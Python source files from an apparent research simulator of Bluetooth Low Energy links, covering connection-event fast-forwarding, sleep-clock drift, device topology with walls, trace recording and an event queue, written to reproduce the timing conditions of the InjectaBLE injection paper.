        if sr.tx_power_dbm - mean_s_to_m - floor_m <= margin:
            return False
        return True

    @staticmethod
    def _retransmit_state_ok(conn) -> bool:
        """The last sent PDU must be replayable as an empty-PDU cycle."""
        last = conn._last_sent
        if last is None:
            return True
        header = last.header
        return header.length == 0 and int(header.llid) != _LLID_CONTROL

    @staticmethod
    def _channels_lockstep(mconn, sconn) -> bool:
        """Both selectors must produce the shared hop sequence in lockstep.

        The Slave runs one selector step ahead (it advances when scheduling
        the window, the Master when the event fires), so the Master's
        unmapped index plus one hop must land on the Slave's.
        """
        m_sel, s_sel = mconn.selector, sconn.selector
        if sconn.current_channel is None:
            return False
        if mconn.params.use_csa2:
            if not (sconn._selector_is_csa2 and mconn._selector_is_csa2):
                return False
            if m_sel._ch_id != s_sel._ch_id:
                return False
            if m_sel._channel_map != s_sel._channel_map:
                return False
            return s_sel.channel_for_event(sconn.event_count) \
                == sconn.current_channel
        if sconn._selector_is_csa2 or mconn._selector_is_csa2:
            return False
        if m_sel.hop_increment != s_sel.hop_increment:
            return False
        if m_sel._channel_map != s_sel._channel_map:
            return False
        hop = s_sel.hop_increment
        if (m_sel._last_unmapped + hop) % NUM_DATA_CHANNELS \
                != s_sel._last_unmapped:
            return False
        return s_sel._map(s_sel._last_unmapped) == sconn.current_channel

    # ------------------------------------------------------------------
    # The batched cycle loop
    # ------------------------------------------------------------------

    def _pdu_bytes(self, llid: int, md: int, sn: int, nesn: int,
                   crc_init: int):
        """Header bytes + CRC of an empty data PDU, memoised."""
        key = (llid, md, sn, nesn, crc_init)
        hit = self._pdu_cache.get(key)
        if hit is None:
            byte0 = llid | (nesn << 2) | (sn << 3) | (md << 4)
            pdu = bytes((byte0, 0))
            hit = (pdu, compute_crc(pdu, crc_init))
            self._pdu_cache[key] = hit
        return hit

    def _run(self, trio, until_us: Optional[float], budget: int) -> int:
        sim, medium, master, slave = self.sim, self.medium, self.master, self.slave
        ev_open, ev_close, ev_master = trio
        mconn, sconn = master.conn, slave.conn
        mp = mconn.params
        phy = master.phy
        frame_dur = air_time_us(2, phy)
        aa, crc_init = mp.access_address, mp.crc_init
        interval_us = mp.interval_us
        timeout_us = mp.timeout_us
        rate_m = master.clock.rate
        rate_s = slave.clock.rate
        drift_k = (mp.master_sca_ppm + slave.clock.sca_ppm) / PPM
        widen_scale = slave.widening_scale
        # Latest event of a cycle is the Slave response's end, which the
        # deadline invariant bounds below end_m + T_IFS + grace.
        horizon_pad = frame_dur + T_IFS_US + _RESPONSE_GRACE_US

        use_csa2 = mp.use_csa2
        m_sel, s_sel = mconn.selector, sconn.selector
        hop = 0 if use_csa2 else s_sel.hop_increment
        unmapped = 0 if use_csa2 else s_sel._last_unmapped
        channel = sconn.current_channel

        mr, sr = master.radio, slave.radio
        path_loss = medium.path_loss
        topology = medium.topology
        sigma = path_loss.shadowing_sigma_db
        draw_shadow = sigma > 0.0

        # Only the counterpart links matter for a quiet cycle (eligibility
        # proved nobody else is listening).  Shadowing draws come from the
        # medium's per-link substreams indexed by the sender's transmission
        # counter, so skipping every off-link draw is exact — a draw's
        # value depends only on (link, index), never on what other links
        # consumed.  Geometry is frozen while engaged (nothing else runs),
        # so the mean losses are engagement-wide.
        mr_tid, sr_tid = mr.medium_id, sr.medium_id
        mean_m_to_s = path_loss.mean_loss_db(
            topology.distance(mr.name, sr.name),
            topology.walls_between(mr.name, sr.name))
        mean_s_to_m = path_loss.mean_loss_db(
            topology.distance(sr.name, mr.name),
            topology.walls_between(sr.name, mr.name))
        ms_shadow = medium._link_shadow(mr, sr_tid) if draw_shadow else None
        sm_shadow = medium._link_shadow(sr, mr_tid) if draw_shadow else None
        m_seq = medium._tx_seq.get(mr_tid, 0)
        s_seq = medium._tx_seq.get(sr_tid, 0)
        floor_s = max(medium.sensitivity_dbm, sr.sensitivity_dbm)
        floor_m = max(medium.sensitivity_dbm, mr.sensitivity_dbm)
        m_tx_power = mr.tx_power_dbm
        s_tx_power = sr.tx_power_dbm

        s_jitter = _StreamBuffer(slave.clock._rng, slave.clock.jitter_us)
        m_jitter = _StreamBuffer(master.clock._rng, master.clock.jitter_us)

        event_count = sconn.event_count
        t_open, t_close, t_master = \
            ev_open.time_us, ev_close.time_us, ev_master.time_us
        m_ts, m_ne = mconn.transmit_seq_num, mconn.next_expected_seq_num
        s_ts, s_ne = sconn.transmit_seq_num, sconn.next_expected_seq_num
        m_pal = mconn._peer_acked_last
        s_pal = sconn._peer_acked_last
        m_desc = None if mconn._last_sent is None else (
            int(mconn._last_sent.header.llid), mconn._last_sent.header.md)
        s_desc = None if sconn._last_sent is None else (
            int(sconn._last_sent.header.llid), sconn._last_sent.header.md)
        m_lv = mconn.last_valid_rx_local_us
        s_lv = sconn.last_valid_rx_local_us
        m_anchor = master._anchor_local

        trace = sim.trace
        metrics = medium._metrics
        next_frame_id = _signal._frame_ids.__next__
        retained: deque = deque()
        fired = 0
        cycles = 0
        # Final-cycle snapshots for write-back.
        last_t_master = last_end_m = last_end_r = 0.0
        last_anchor_s = 0.0
        last_channel = 0
        last_unmapped = 0
        last_m_bits = last_s_bits = (0, 0)

        while True:
            # -- pre-draw bail-outs: disengage with zero side effects ----
            if not (t_open <= t_master < t_close):
                break
            end_m = t_master + frame_dur
            if end_m - TIME_EPS_US <= t_close <= end_m:
                break  # window edge within float tolerance of the frame end
            cycle_events = 7 if t_close < end_m else 6
            if fired + cycle_events > budget:
                break
            if until_us is not None and t_master + horizon_pad > until_us:
                break
            if t_master * rate_m - m_lv > timeout_us:
                break  # Master supervision would expire: reference path

            # -- pure ARQ/PDU arithmetic (still reversible) --------------
            if not m_pal and m_desc is not None:
                m_llid, m_md = m_desc
            else:
                m_llid, m_md = _LLID_EMPTY, 0
            m_sn, m_nesn = m_ts, m_ne
            m_desc = (m_llid, m_md)
            m_bytes, m_crc = self._pdu_bytes(m_llid, m_md, m_sn, m_nesn,
                                             crc_init)
            # Slave receives the Master frame (always CRC-valid here).
            if m_sn == s_ne:
                s_ne ^= 1
            if m_nesn != s_ts:
                s_ts ^= 1
                s_pal = True
            else:
                s_pal = False
            if not s_pal and s_desc is not None:
                s_llid, s_md = s_desc
            else:
                s_llid, s_md = _LLID_EMPTY, 0
            s_sn, s_nesn = s_ts, s_ne
            s_desc = (s_llid, s_md)
            s_pal = False  # note_sent
            s_bytes, s_crc = self._pdu_bytes(s_llid, s_md, s_sn, s_nesn,
                                             crc_init)
            # Master receives the Slave response.
            if s_sn == m_ne:
                m_ne_next = m_ne ^ 1
            else:
                m_ne_next = m_ne
            if s_nesn != m_ts:
                m_ts_next = m_ts ^ 1
                m_pal_next = True
            else:
                m_ts_next = m_ts
                m_pal_next = False

            # -- draws: the cycle is now committed -----------------------
            frame_id_m = next_frame_id()
            seq_m = m_seq
            m_seq += 1
            loss = mean_m_to_s + ms_shadow.value(seq_m) if draw_shadow \
                else mean_m_to_s
            p_slave = m_tx_power - loss
            if p_slave < floor_s:
                raise SimulationError(
                    "fast-forward: master frame faded below the slave's "
                    "sensitivity floor despite the engagement margin")
            response_jitter = s_jitter.next()
            t_response = end_m + T_IFS_US \
                + max(response_jitter, _RESPONSE_JITTER_FLOOR_US)
            frame_id_s = next_frame_id()
            seq_s = s_seq
            s_seq += 1
            loss = mean_s_to_m + sm_shadow.value(seq_s) if draw_shadow \
                else mean_s_to_m
            p_master = s_tx_power - loss
            if p_master < floor_m:
                raise SimulationError(
                    "fast-forward: slave frame faded below the master's "
                    "sensitivity floor despite the engagement margin")
            end_r = t_response + frame_dur
            deadline = end_m + T_IFS_US + _RESPONSE_GRACE_US
            if end_r >= deadline:
                raise SimulationError(
                    "fast-forward: slave response would miss the master's "
                    "response deadline")
            anchor_s = t_master * rate_s
            s_lv = end_m * rate_s
            predicted_s = anchor_s + 1 * interval_us
            widening = widen_scale * (
                drift_k * (predicted_s - anchor_s)
                + WINDOW_WIDENING_CONSTANT_US)
            next_open = max(
                (predicted_s - widening) / rate_s + s_jitter.next(),
                t_response)
            next_close = max(
                (predicted_s + widening) / rate_s + s_jitter.next(),
                t_response)
            m_lv = end_r * rate_m
            m_anchor = m_anchor + interval_us
            next_master = max(m_anchor / rate_m + m_jitter.next(), end_r)
            if next_open < end_r or next_close < end_r or next_master < end_r:
                raise SimulationError(
                    "fast-forward: next cycle's events would fire before "
                    "the current response completes")

            # -- observable side effects, exactly as the reference -------
            if trace.enabled:
                s_name, m_name = slave.name, master.name
                trace.record(t_open, s_name, "window-open",
                             channel=channel, event_count=event_count)
                trace.record(t_master, s_name, "rx-lock",
                             frame_id=frame_id_m, channel=channel,
                             rssi_dbm=p_slave)
                trace.record(t_master, m_name, "tx",
                             channel=channel, aa=aa, pdu_len=2,
                             frame_id=frame_id_m)
                trace.record(t_master, m_name, "master-tx",
                             event_count=event_count, sn=m_sn, nesn=m_nesn,
                             channel=channel)
                trace.record(end_m, s_name, "rx",
                             frame_id=frame_id_m, corrupted=False,
                             rssi_dbm=p_slave)
                trace.record(end_m, s_name, "anchor",
                             event_count=event_count, anchor_us=t_master,
                             frame_id=frame_id_m)
                trace.record(t_response, m_name, "rx-lock",
                             frame_id=frame_id_s, channel=channel,
                             rssi_dbm=p_master)
                trace.record(t_response, s_name, "tx",
                             channel=channel, aa=aa, pdu_len=2,
                             frame_id=frame_id_s)
                trace.record(t_response, s_name, "slave-response",
                             sn=s_sn, nesn=s_nesn, event_count=event_count)
                trace.record(end_r, m_name, "rx",
                             frame_id=frame_id_s, corrupted=False,
                             rssi_dbm=p_master)
                trace.record(end_r, m_name, "slave-heard",
                             event_count=event_count, sn=s_sn, nesn=s_nesn)
            if metrics.enabled:
                medium._m_tx.inc()
                airtime = medium._m_airtime.get(channel)
                if airtime is None:
                    airtime = medium._m_airtime[channel] = metrics.counter(
                        f"medium.airtime_us.ch{channel:02d}")
                airtime.inc(frame_dur)
                medium._m_tx.inc()
                airtime.inc(frame_dur)
                medium._m_rx.inc()
                medium._m_rx.inc()

            retained.append((frame_id_m, t_master, end_m, channel,
                             m_bytes, m_crc, p_slave, mr, sr_tid, seq_m))
            retained.append((frame_id_s, t_response, end_r, channel,
                             s_bytes, s_crc, p_master, sr, mr_tid, seq_s))
            prune_before = end_r - _RECENT_HORIZON_US
            while retained and retained[0][2] < prune_before:
                retained.popleft()

            # -- roll the loop state to the next cycle -------------------
            fired += cycle_events
            cycles += 1
            m_ne, m_ts, m_pal = m_ne_next, m_ts_next, m_pal_next
            last_t_master, last_end_m, last_end_r = t_master, end_m, end_r
            last_anchor_s = anchor_s
            last_channel = channel
            last_unmapped = unmapped
            last_m_bits = (m_sn, m_nesn)
            last_s_bits = (s_sn, s_nesn)
            event_count = (event_count + 1) & 0xFFFF
            if use_csa2:
                channel = s_sel.channel_for_event(event_count)
            else:
                unmapped = (unmapped + hop) % NUM_DATA_CHANNELS
                channel = s_sel._map(unmapped)
            t_open, t_close, t_master = next_open, next_close, next_master

        if cycles == 0:
            return 0

        # ------------------------------------------------------------------
        # Materialise: write the end-of-stretch state back so the reference
        # engine resumes as if it had executed every cycle itself.  The
        # per-link shadowing substreams need no unwind: their draws are
        # indexed by transmission counter, so the reference path picks up
        # at the written-back counters with identical values.
        # ------------------------------------------------------------------
        s_jitter.unwind()
        m_jitter.unwind()

        sim._now = last_end_r
        ev_open.cancel()
        ev_close.cancel()
        ev_master.cancel()
        # Recreate the trio in the reference's creation order (window-open,
        # window-close, master event) so time ties break identically.
        sim.schedule_at(t_open,
                        lambda ch=channel: slave._window_open(ch),
                        self._wo_label)
        new_close = sim.schedule_at(t_close, slave._window_timeout,
                                    f"{slave.name}-window-close")
        sim.schedule_at(t_master, self._master_handler,
                        f"{master.name}-event")
        slave._window_close = new_close
        slave._pending_events.append(new_close)

        mconn.event_count = event_count
        sconn.event_count = event_count
        mconn.transmit_seq_num, mconn.next_expected_seq_num = m_ts, m_ne
        sconn.transmit_seq_num, sconn.next_expected_seq_num = s_ts, s_ne
        mconn._peer_acked_last = m_pal
        sconn._peer_acked_last = s_pal
        mconn._last_sent = DataPdu.make(
            LLID(m_desc[0]), b"", sn=last_m_bits[0], nesn=last_m_bits[1],
            md=m_desc[1])
        sconn._last_sent = DataPdu.make(
            LLID(s_desc[0]), b"", sn=last_s_bits[0], nesn=last_s_bits[1],
            md=s_desc[1])
        mconn.last_valid_rx_local_us = m_lv
        sconn.last_valid_rx_local_us = s_lv
        mconn.current_channel = last_channel
        sconn.current_channel = channel
        if not use_csa2:
            m_sel._last_unmapped = last_unmapped
            s_sel._last_unmapped = unmapped
        master._anchor_local = m_anchor
        master._awaiting_response = False
        master._response_deadline = None
        slave._anchor_local = last_anchor_s
        slave._events_since_anchor = 1

        mr._tx_until_us = last_end_m
        sr._tx_until_us = last_end_r
        mr._rx_channel = mr._rx_since_us = None
        sr._rx_channel = sr._rx_since_us = None

        medium._tx_seq[mr_tid] = m_seq
        medium._tx_seq[sr_tid] = s_seq
        for frame_id, start, _end, frame_ch, pdu_bytes, crc, power, sender, \
                rx_tid, seq in retained:
            frame = RadioFrame(
                access_address=aa, pdu=pdu_bytes, crc=crc, channel=frame_ch,
                start_us=start, tx_power_dbm=sender.tx_power_dbm, phy=phy,
                sender_id=sender.medium_id, frame_id=frame_id)
            transmission = _ActiveTransmission(frame, sender, seq)
            transmission.rx_power_dbm[rx_tid] = power
            medium._append_recent(transmission)

        global _events_fast_forwarded
        _events_fast_forwarded += fired
        return fired
