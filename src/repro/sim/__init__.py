"""Discrete-event radio simulator: scheduler, drifting clocks, medium, topology."""

from repro.sim.clock import SleepClock
from repro.sim.interference import RogueAdvertiser, WifiInterferer
from repro.sim.events import Event, EventQueue
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Point, Topology, WallSegment
from repro.sim.trace import Trace, TraceRecord
from repro.sim.transceiver import Transceiver, TransceiverState

__all__ = [
    "Event",
    "EventQueue",
    "Medium",
    "Point",
    "RogueAdvertiser",
    "Simulator",
    "SleepClock",
    "Topology",
    "Trace",
    "TraceRecord",
    "Transceiver",
    "TransceiverState",
    "WifiInterferer",
    "WallSegment",
]
