"""Sleep clocks with bounded drift.

Every BLE device schedules its radio activity off a low-power *sleep clock*
whose accuracy is declared as an SCA (Sleep Clock Accuracy) value in parts
per million.  The InjectaBLE race exists precisely because these clocks
drift: the Slave opens its receive window early/late by the window-widening
amount to compensate (paper §V-A/B).

The model: a device clock runs at a fixed rate error ``r`` (ppm), sampled
uniformly within ±SCA at construction, plus white per-reading jitter.  The
local time after true time ``t`` is ``t * (1 + r/1e6) + jitter``.  Devices
schedule *in local time*; the simulator converts to true time.
"""

from __future__ import annotations

from typing import Optional

import numpy as np

from repro.errors import ConfigurationError
from repro.utils.units import PPM

#: SCA values (ppm) allowed by the specification, by SCA field value (0-7).
SCA_FIELD_PPM = (500.0, 250.0, 150.0, 100.0, 75.0, 50.0, 30.0, 20.0)


def sca_field_to_ppm(field: int) -> float:
    """Map the 3-bit SCA field of CONNECT_REQ to its worst-case ppm."""
    if not 0 <= field <= 7:
        raise ConfigurationError(f"SCA field must be 0-7, got {field}")
    return SCA_FIELD_PPM[field]


def ppm_to_sca_field(ppm: float) -> int:
    """Smallest SCA field whose worst case covers ``ppm``."""
    for field in range(7, -1, -1):
        if SCA_FIELD_PPM[field] >= ppm:
            return field
    return 0


class SleepClock:
    """A drifting clock.

    Args:
        sca_ppm: *declared* worst-case accuracy; devices must guarantee
            this bound, so the actual rate error is drawn within
            ``±utilization * sca_ppm`` — real crystals are engineered with
            margin against their declared SCA class.
        rng: generator for the rate draw and the per-reading jitter.
        jitter_us: standard deviation of white scheduling jitter, modelling
            radio turn-around and timer granularity (the spec allows 2 µs of
            active-clock jitter; real stacks show a few µs).
        utilization: fraction of the declared budget the actual drift may
            use (0-1).  The default 0.6 keeps the paper's 20 ppm worst-case
            attacker assumption workable, as it is on real hardware.

    The conversion functions are exact inverses of each other, so a device
    that schedules an event at local time ``L`` wakes at the true time
    ``true_from_local(L)`` (plus jitter applied once, at scheduling).
    """

    def __init__(
        self,
        sca_ppm: float = 50.0,
        rng: Optional[np.random.Generator] = None,
        jitter_us: float = 1.0,
        utilization: float = 0.6,
    ):
        if sca_ppm < 0:
            raise ConfigurationError(f"SCA must be >= 0 ppm, got {sca_ppm}")
        if jitter_us < 0:
            raise ConfigurationError(f"jitter must be >= 0, got {jitter_us}")
        if not 0.0 <= utilization <= 1.0:
            raise ConfigurationError(
                f"utilization must be in [0, 1], got {utilization}")
        self.sca_ppm = float(sca_ppm)
        self.jitter_us = float(jitter_us)
        self.utilization = float(utilization)
        self._rng = rng if rng is not None else np.random.default_rng()
        bound = sca_ppm * utilization
        self.rate_error_ppm = (
            float(self._rng.uniform(-bound, bound)) if bound > 0 else 0.0
        )

    @property
    def rate(self) -> float:
        """Local seconds elapsed per true second (1 + error)."""
        return 1.0 + self.rate_error_ppm / PPM

    def local_from_true(self, true_us: float) -> float:
        """Local clock reading at true time ``true_us``."""
        return true_us * self.rate

    def true_from_local(self, local_us: float) -> float:
        """True time at which the local clock reads ``local_us``."""
        return local_us / self.rate

    def drift_over(self, interval_us: float) -> float:
        """Signed true-time error accumulated over a local interval.

        A device that waits ``interval_us`` on its own clock actually waits
        ``interval_us / rate``; the return value is that difference.
        """
        return interval_us / self.rate - interval_us

    def sample_jitter(self) -> float:
        """One draw of scheduling jitter in µs (true time)."""
        if self.jitter_us == 0:
            return 0.0
        return float(self._rng.normal(0.0, self.jitter_us))

    def __repr__(self) -> str:
        return (
            f"SleepClock(sca={self.sca_ppm}ppm, "
            f"actual={self.rate_error_ppm:+.2f}ppm, jitter={self.jitter_us}us)"
        )
