"""2-D placement of devices and walls.

The paper's experiments use simple geometries: an equilateral triangle with
2 m edges (experiments 1-2), a line of attacker positions from 1 to 10 m
(experiment 3), and positions behind a wall (wall experiment).  This module
provides points, wall segments with attenuation, and segment-intersection
tests so the medium can count the walls crossed by each radio path.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import Optional

from repro.errors import ConfigurationError
from repro.phy.path_loss import Wall


@dataclass(frozen=True)
class Point:
    """A position in metres."""

    x: float
    y: float

    def distance_to(self, other: "Point") -> float:
        """Euclidean distance in metres."""
        return math.hypot(self.x - other.x, self.y - other.y)


@dataclass(frozen=True)
class WallSegment:
    """A wall: a 2-D segment with a radio attenuation.

    Attributes:
        a: one endpoint.
        b: other endpoint.
        wall: the attenuation applied to paths crossing the segment.
    """

    a: Point
    b: Point
    wall: Wall = Wall()

    def crosses(self, p: Point, q: Point) -> bool:
        """Whether segment ``p``-``q`` properly intersects this wall.

        Uses the standard orientation test; touching endpoints count as a
        crossing (the radio path grazes the wall).
        """

        def orient(o: Point, u: Point, v: Point) -> float:
            return (u.x - o.x) * (v.y - o.y) - (u.y - o.y) * (v.x - o.x)

        d1 = orient(p, q, self.a)
        d2 = orient(p, q, self.b)
        d3 = orient(self.a, self.b, p)
        d4 = orient(self.a, self.b, q)
        if ((d1 > 0) != (d2 > 0)) and ((d3 > 0) != (d4 > 0)):
            return True

        def on_segment(o: Point, u: Point, v: Point) -> bool:
            return (
                min(o.x, u.x) - 1e-12 <= v.x <= max(o.x, u.x) + 1e-12
                and min(o.y, u.y) - 1e-12 <= v.y <= max(o.y, u.y) + 1e-12
            )

        if d1 == 0 and on_segment(p, q, self.a):
            return True
        if d2 == 0 and on_segment(p, q, self.b):
            return True
        if d3 == 0 and on_segment(self.a, self.b, p):
            return True
        if d4 == 0 and on_segment(self.a, self.b, q):
            return True
        return False


@dataclass
class Topology:
    """Device positions and walls.

    Devices are identified by name; the medium queries pairwise distances
    and crossed walls when sampling received power.

    ``version`` increases on every mutation (:meth:`place`,
    :meth:`add_wall`); consumers that cache derived geometry (the medium's
    per-pair path cache) compare it to detect staleness.
    """

    positions: dict[str, Point] = field(default_factory=dict)
    walls: list[WallSegment] = field(default_factory=list)
    version: int = field(default=0, compare=False, repr=False)

    def place(self, name: str, x: float, y: float) -> None:
        """Set (or move) a device's position."""
        self.positions[name] = Point(x, y)
        self.version += 1

    def position_of(self, name: str) -> Point:
        """Position of device ``name``."""
        try:
            return self.positions[name]
        except KeyError:
            raise ConfigurationError(f"no position for device {name!r}") from None

    def add_wall(self, ax: float, ay: float, bx: float, by: float,
                 attenuation_db: float = 8.0) -> None:
        """Add a wall segment between two points."""
        self.walls.append(
            WallSegment(Point(ax, ay), Point(bx, by), Wall(attenuation_db))
        )
        self.version += 1

    def distance(self, name_a: str, name_b: str) -> float:
        """Distance between two placed devices, in metres."""
        return self.position_of(name_a).distance_to(self.position_of(name_b))

    def walls_between(self, name_a: str, name_b: str) -> tuple[Wall, ...]:
        """Walls crossed by the direct path between two devices."""
        pa, pb = self.position_of(name_a), self.position_of(name_b)
        return tuple(w.wall for w in self.walls if w.crosses(pa, pb))

    @staticmethod
    def equilateral_triangle(names: tuple[str, str, str], edge_m: float = 2.0
                             ) -> "Topology":
        """The paper's experiment-1/2 setup: three devices, 2 m edges."""
        if edge_m <= 0:
            raise ConfigurationError(f"edge must be > 0: {edge_m}")
        topo = Topology()
        topo.place(names[0], 0.0, 0.0)
        topo.place(names[1], edge_m, 0.0)
        topo.place(names[2], edge_m / 2.0, edge_m * math.sqrt(3.0) / 2.0)
        return topo


class SpatialGrid:
    """A uniform grid hash over device positions.

    Buckets every placed device into ``cell_m``-sized square cells so the
    medium can range-prune candidate receivers in O(cells touched) instead
    of O(devices).  :meth:`near` walks whole Chebyshev rings of cells and
    therefore returns a *superset* of the devices within ``radius_m``:
    callers still apply their exact range/link-budget check, so a coarse
    grid costs candidates, never correctness.

    The grid is an immutable snapshot: it records the topology's
    :attr:`Topology.version` at build time, and consumers compare that to
    the live version to detect staleness (a moved device would otherwise
    be looked up in its stale cell).
    """

    __slots__ = ("cell_m", "version", "_cells")

    #: Floor on the cell edge; sub-metre cells only multiply ring walks.
    MIN_CELL_M = 1.0

    def __init__(self, topology: Topology, cell_m: float):
        self.cell_m = max(cell_m, self.MIN_CELL_M)
        self.version = topology.version
        cells: dict[tuple[int, int], list[str]] = {}
        cell = self.cell_m
        for name, p in topology.positions.items():
            key = (int(p.x // cell), int(p.y // cell))
            bucket = cells.get(key)
            if bucket is None:
                cells[key] = [name]
            else:
                bucket.append(name)
        self._cells = cells

    def near(self, center: Point, radius_m: float) -> set:
        """Names of all devices possibly within ``radius_m`` of ``center``.

        Covers ``rings = floor(radius/cell) + 1`` rings around the centre
        cell; any point within the radius is at most ``rings`` cells away
        in Chebyshev distance, so the result is a guaranteed superset.
        """
        cell = self.cell_m
        rings = int(radius_m / cell) + 1
        cx, cy = int(center.x // cell), int(center.y // cell)
        cells = self._cells
        out: set = set()
        for gx in range(cx - rings, cx + rings + 1):
            for gy in range(cy - rings, cy + rings + 1):
                bucket = cells.get((gx, gy))
                if bucket is not None:
                    out.update(bucket)
        return out
