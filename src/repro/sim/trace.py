"""Structured trace of simulation activity.

Experiments and the success-detection heuristic both need an audit trail of
what happened on air and inside the state machines.  The trace is a flat,
append-only list of typed records that analysis code filters.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Iterator, Optional


@dataclass(frozen=True)
class TraceRecord:
    """One trace entry.

    Attributes:
        time_us: true simulator time of the event.
        source: name of the emitting component (device name, "medium", ...).
        kind: machine-readable event type, e.g. ``"tx"``, ``"rx"``,
            ``"collision"``, ``"anchor"``, ``"injection-attempt"``.
        detail: free-form payload (kept small; no object graphs).
    """

    time_us: float
    source: str
    kind: str
    detail: dict[str, Any] = field(default_factory=dict)


class Trace:
    """Append-only simulation trace with simple query helpers."""

    def __init__(self, enabled: bool = True):
        self.enabled = enabled
        self._records: list[TraceRecord] = []

    def record(
        self, time_us: float, source: str, kind: str, **detail: Any
    ) -> None:
        """Append a record (no-op when disabled)."""
        if not self.enabled:
            return
        self._records.append(TraceRecord(time_us, source, kind, detail))

    def __len__(self) -> int:
        return len(self._records)

    def __iter__(self) -> Iterator[TraceRecord]:
        return iter(self._records)

    def filter(
        self,
        kind: Optional[str] = None,
        source: Optional[str] = None,
        predicate: Optional[Callable[[TraceRecord], bool]] = None,
    ) -> list[TraceRecord]:
        """Records matching all the provided criteria."""
        out = []
        for rec in self._records:
            if kind is not None and rec.kind != kind:
                continue
            if source is not None and rec.source != source:
                continue
            if predicate is not None and not predicate(rec):
                continue
            out.append(rec)
        return out

    def last(self, kind: str) -> Optional[TraceRecord]:
        """Most recent record of the given kind, or ``None``."""
        for rec in reversed(self._records):
            if rec.kind == kind:
                return rec
        return None

    def clear(self) -> None:
        """Drop all records."""
        self._records.clear()
