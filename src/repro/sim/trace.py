"""Structured trace of simulation activity.

Experiments and the success-detection heuristic both need an audit trail
of what happened on air and inside the state machines.  A :class:`Trace`
is a stream of typed records feeding one in-memory backend (for the query
helpers analysis code uses) plus any number of attached streaming sinks
(JSONL files, ring buffers, ... — see :mod:`repro.telemetry.sinks`).

The in-memory backend is pluggable too: the historical unbounded list by
default, or a bounded ring (``max_records``) so long campaigns keep the
most recent history instead of growing without bound.
"""

from __future__ import annotations

from typing import Any, Callable, Iterator, Optional


class TraceRecord:
    """One trace entry.

    A ``__slots__`` class, not a dataclass: one instance is allocated per
    recorded event, millions per traced sweep.

    Attributes:
        time_us: true simulator time of the event.
        source: name of the emitting component (device name, "medium", ...).
        kind: machine-readable event type, e.g. ``"tx"``, ``"rx"``,
            ``"collision"``, ``"anchor"``, ``"injection-attempt"``.
        detail: free-form payload (kept small; no object graphs).
    """

    __slots__ = ("time_us", "source", "kind", "detail")

    def __init__(self, time_us: float, source: str, kind: str,
                 detail: Optional[dict[str, Any]] = None):
        self.time_us = time_us
        self.source = source
        self.kind = kind
        self.detail = detail if detail is not None else {}

    def __repr__(self) -> str:
        return (f"TraceRecord(t={self.time_us}, source={self.source!r}, "
                f"kind={self.kind!r}, detail={self.detail!r})")


class Trace:
    """Simulation trace with simple query helpers and streaming sinks.

    Args:
        enabled: record anything at all (the fast-exit guard hot paths
            check before building kwargs).
        max_records: bound the in-memory backend to the newest
            ``max_records`` entries (ring-buffer mode); ``None`` keeps
            everything, the historical behaviour.
    """

    def __init__(self, enabled: bool = True,
                 max_records: Optional[int] = None):
        from repro.telemetry.sinks import ListSink, RingSink

        self.enabled = enabled
        self._backend = (RingSink(max_records) if max_records is not None
                         else ListSink())
        self._sinks: list = []

    @property
    def max_records(self) -> Optional[int]:
        """The ring bound, or ``None`` in unbounded mode."""
        return getattr(self._backend, "max_records", None)

    @property
    def dropped(self) -> int:
        """Records evicted by the ring bound (0 in unbounded mode)."""
        return getattr(self._backend, "dropped", 0)

    def add_sink(self, sink) -> None:
        """Attach a streaming sink; it receives every future record."""
        self._sinks.append(sink)

    def remove_sink(self, sink) -> None:
        """Detach a previously attached sink (does not close it)."""
        self._sinks.remove(sink)

    def close(self) -> None:
        """Close every attached sink (the in-memory backend stays
        queryable)."""
        for sink in self._sinks:
            sink.close()

    def record(
        self, time_us: float, source: str, kind: str, **detail: Any
    ) -> None:
        """Append a record (no-op when disabled)."""
        if not self.enabled:
            return
        rec = TraceRecord(time_us, source, kind, detail)
        self._backend.write(rec)
        if self._sinks:
            for sink in self._sinks:
                sink.write(rec)

    def __len__(self) -> int:
        return len(self._backend)

    def __iter__(self) -> Iterator[TraceRecord]:
        return iter(self._backend)

    def filter(
        self,
        kind: Optional[str] = None,
        source: Optional[str] = None,
        predicate: Optional[Callable[[TraceRecord], bool]] = None,
    ) -> list[TraceRecord]:
        """Records matching all the provided criteria."""
        out = []
        for rec in self._backend:
            if kind is not None and rec.kind != kind:
                continue
            if source is not None and rec.source != source:
                continue
            if predicate is not None and not predicate(rec):
                continue
            out.append(rec)
        return out

    def last(self, kind: str) -> Optional[TraceRecord]:
        """Most recent record of the given kind, or ``None``."""
        for rec in reversed(list(self._backend)):
            if rec.kind == kind:
                return rec
        return None

    def clear(self) -> None:
        """Drop all records."""
        self._backend.clear()
