"""Event queue for the discrete-event simulator."""

from __future__ import annotations

import heapq
import itertools
from dataclasses import dataclass, field
from typing import Any, Callable, Optional

from repro.errors import SchedulingError


@dataclass(order=True)
class Event:
    """A scheduled callback.

    Events order by time, then by a monotonically increasing sequence
    number, so simultaneous events fire in scheduling order (deterministic).

    Attributes:
        time_us: absolute simulator (true) time at which to fire.
        seq: tie-breaker assigned by the queue.
        handler: zero-argument callable invoked when the event fires.
        label: human-readable tag for traces and debugging.
        cancelled: set via :meth:`cancel`; cancelled events are skipped.
    """

    time_us: float
    seq: int
    handler: Callable[[], None] = field(compare=False)
    label: str = field(default="", compare=False)
    cancelled: bool = field(default=False, compare=False)

    def cancel(self) -> None:
        """Mark the event so the queue drops it instead of firing it."""
        self.cancelled = True


class EventQueue:
    """A time-ordered queue of :class:`Event` objects."""

    def __init__(self) -> None:
        self._heap: list[Event] = []
        self._seq = itertools.count()

    def __len__(self) -> int:
        return sum(1 for event in self._heap if not event.cancelled)

    def push(self, time_us: float, handler: Callable[[], None], label: str = "") -> Event:
        """Schedule ``handler`` at ``time_us`` and return the event handle."""
        if not callable(handler):
            raise SchedulingError(f"handler is not callable: {handler!r}")
        event = Event(time_us=time_us, seq=next(self._seq), handler=handler, label=label)
        heapq.heappush(self._heap, event)
        return event

    def pop(self) -> Optional[Event]:
        """Remove and return the earliest non-cancelled event, or ``None``."""
        while self._heap:
            event = heapq.heappop(self._heap)
            if not event.cancelled:
                return event
        return None

    def peek_time(self) -> Optional[float]:
        """Time of the next non-cancelled event without removing it."""
        while self._heap and self._heap[0].cancelled:
            heapq.heappop(self._heap)
        return self._heap[0].time_us if self._heap else None

    def clear(self) -> None:
        """Drop every pending event."""
        self._heap.clear()
