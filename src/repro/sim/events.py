"""Event queue for the discrete-event simulator.

